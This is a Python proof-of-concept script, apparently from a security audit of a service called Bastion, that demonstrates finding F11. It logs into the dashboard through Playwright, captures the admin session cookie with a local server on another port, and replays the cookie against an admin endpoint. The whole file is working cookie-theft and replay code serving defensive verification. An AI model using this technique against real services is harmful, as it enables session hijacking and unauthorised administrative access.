"""F11: the dashboard's session cookie reaches any other service on the same host name (cookies are not
isolated by port, RFC 6265 section 8.5): a page served on another port reads the Cookie header the
browser sends it and replays it against Bastion.
usage: cookie_other_port.py BASTION_URL ADMIN_KEY_ENV   (Debian's chromium, Playwright)"""

import http.server
import os
import sys
import threading

import httpx
from playwright.sync_api import sync_playwright

url, admin = sys.argv[1], os.environ[sys.argv[2]]
seen: list[str] = []


class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        seen.append(self.headers.get("Cookie", ""))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"hello")

    def log_message(self, *args: object) -> None:
        pass


evil = http.server.HTTPServer(("127.0.0.1", 0), Evil)
threading.Thread(target=evil.serve_forever, daemon=True).start()
with sync_playwright() as p:
    browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
    page = browser.new_page()
    page.goto(f"{url}/dashboard/login")
    page.fill("#api-key", admin)
    page.click("#login-button")
    page.wait_for_url(f"{url}/dashboard")
    page.goto(f"http://127.0.0.1:{evil.server_address[1]}/")  # a link the operator follows
    browser.close()
stolen = seen[0]
print("the other port received:", stolen[:40] + "...")
replayed = httpx.get(f"{url}/v2/admin/summary", headers={"Cookie": stolen})
print("replayed against Bastion:", replayed.status_code)
